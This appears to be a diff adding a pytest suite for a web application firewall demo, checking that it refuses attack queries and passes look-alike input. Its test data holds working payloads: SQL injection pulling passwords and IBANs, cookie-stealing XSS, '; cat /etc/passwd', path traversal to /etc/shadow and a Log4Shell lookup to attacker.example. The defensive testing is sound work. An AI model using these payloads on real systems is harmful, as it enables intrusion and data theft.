@@ -1,0 +1,173 @@
+"""Attack detection as a new user meets it: `dijk demo`, attacks refused, look-alikes served.
+
+Every demo route runs the detector in block mode at paranoia 1 (issue 7, "Done when").
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import signal
+import subprocess
+import sys
+import time
+import urllib.error
+import urllib.request
+from collections.abc import Iterator
+from dataclasses import dataclass
+from urllib.parse import urlencode
+
+import pytest
+
+from tests.support.gateway import free_port
+
+
+@dataclass
+class Demo:
+    port: int
+    read_key: str
+    write_key: str
+
+    def call(
+        self, method: str, path: str, key: str, body: object = None
+    ) -> tuple[int, dict[str, str], dict[str, object]]:
+        data = None if body is None else json.dumps(body).encode()
+        request = urllib.request.Request(
+            f"http://127.0.0.1:{self.port}{path}", method=method, data=data
+        )
+        request.add_header("X-API-Key", key)
+        if data is not None:
+            request.add_header("Content-Type", "application/json")
+        try:
+            with urllib.request.urlopen(request, timeout=10) as response:
+                status, headers, raw = response.status, response.headers, response.read()
+        except urllib.error.HTTPError as error:
+            status, headers, raw = error.code, error.headers, error.read()
+        return status, {k.lower(): v for k, v in headers.items()}, json.loads(raw or b"{}")
+
+    def search(self, q: str) -> tuple[int, dict[str, str], dict[str, object]]:
+        return self.call("GET", "/api/v1/search?" + urlencode({"q": q}), self.read_key)
+
+
+@pytest.fixture(scope="module")
+def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Demo]:
+    data_dir = tmp_path_factory.mktemp("waf-demo") / ".dijk"
+    port, upstream_port, admin_port = free_port(), free_port(), free_port()
+    env = {k: v for k, v in os.environ.items() if not k.startswith("DIJK_DEMO_KEY")}
+    process = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "dijk",
+            "demo",
+            "--port",
+            str(port),
+            "--upstream-port",
+            str(upstream_port),
+            "--admin-port",
+            str(admin_port),
+            "--data-dir",
+            str(data_dir),
+        ],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        env=env,
+    )
+    assert process.stdout is not None
+    keys: dict[str, str] = {}
+    deadline = time.monotonic() + 60
+    while len(keys) < 2 and time.monotonic() < deadline:
+        line = process.stdout.readline().decode()
+        if not line:
+            break
+        found = re.match(r"^(DIJK_DEMO_KEY_(?:READ|WRITE))=(\S+)$", line.strip())
+        if found:
+            keys[found.group(1)] = found.group(2)
+    try:
+        assert len(keys) == 2, "the demo did not print both keys"
+        yield Demo(port, keys["DIJK_DEMO_KEY_READ"], keys["DIJK_DEMO_KEY_WRITE"])
+    finally:
+        process.send_signal(signal.SIGTERM)
+        assert process.wait(20) == 0
+
+
+def assert_refused(response: tuple[int, dict[str, str], dict[str, object]], reason: str) -> None:
+    status, headers, problem = response
+    assert status == 403, problem
+    assert headers["content-type"] == "application/problem+json"
+    assert problem["reason"] == reason
+    assert problem["type"] == f"https://dijk.dev/problems/{reason}"
+    rules = problem["rules"]
+    assert isinstance(rules, list)
+    assert rules
+    assert all(isinstance(rule, str) for rule in rules)
+
+
+@pytest.mark.parametrize(
+    ("q", "reason"),
+    [
+        ("1' UNION SELECT username, password FROM accounts--", "waf.sqli"),
+        ("<img src=x onerror=alert(document.cookie)>", "waf.xss"),
+        ("; cat /etc/passwd", "waf.cmdi"),
+        ("../../etc/shadow", "waf.path_traversal"),
+        ("${jndi:ldap://attacker.example/a}", "waf.log4shell"),
+    ],
+)
+def test_attacks_in_q_are_refused_with_403_and_a_waf_reason(
+    demo: Demo, q: str, reason: str
+) -> None:
+    response = demo.search(q)
+    assert_refused(response, reason)
+    # The attack is never echoed back.
+    assert q not in json.dumps(response[2])
+
+
+@pytest.mark.parametrize(
+    "q",
+    [
+        "O'Brien",
+        "select the best plan for me",
+        "drop me a line",
+        "Rock & Roll <3",
+        "1=1 in our tests",
+    ],
+)
+def test_look_alike_searches_pass(demo: Demo, q: str) -> None:
+    status, _, body = demo.search(q)
+    assert status == 200, body
+    assert body["query"] == q
+
+
+def test_sql_injection_inside_a_json_field_of_a_new_account_is_refused(demo: Demo) -> None:
+    body = {"name": "Anne' OR '1'='1' --", "email": "anne@example.nl"}
+    assert_refused(demo.call("POST", "/api/v1/accounts", demo.write_key, body), "waf.sqli")
+
+
+def test_an_ordinary_new_account_is_created(demo: Demo) -> None:
+    body = {"name": "Siobhan O'Neill-de Vries", "email": "siobhan@example.nl"}
+    status, _, created = demo.call("POST", "/api/v1/accounts", demo.write_key, body)
+    assert status == 201, created
+
+
+def test_sql_injection_inside_graphql_variables_is_refused(demo: Demo) -> None:
+    body = {
+        "query": "query Find($q: String!) { search(q: $q) { id } }",
+        "variables": {"q": "x' UNION SELECT iban FROM accounts--"},
+    }
+    assert_refused(demo.call("POST", "/graphql", demo.read_key, body), "waf.sqli")
+
+
+def test_an_ordinary_graphql_query_passes(demo: Demo) -> None:
+    body = {
+        "query": "query Find($q: String!) { search(q: $q) { id } }",
+        "variables": {"q": "O'Brien"},
+    }
+    status, _, answer = demo.call("POST", "/graphql", demo.read_key, body)
+    assert status == 200, answer
+    assert "errors" not in answer
+
+
+def test_graphql_introspection_is_refused_as_graphql_abuse(demo: Demo) -> None:
+    body = {"query": "{ __schema { types { name } } }"}
+    assert_refused(demo.call("POST", "/graphql", demo.read_key, body), "waf.graphql_abuse")
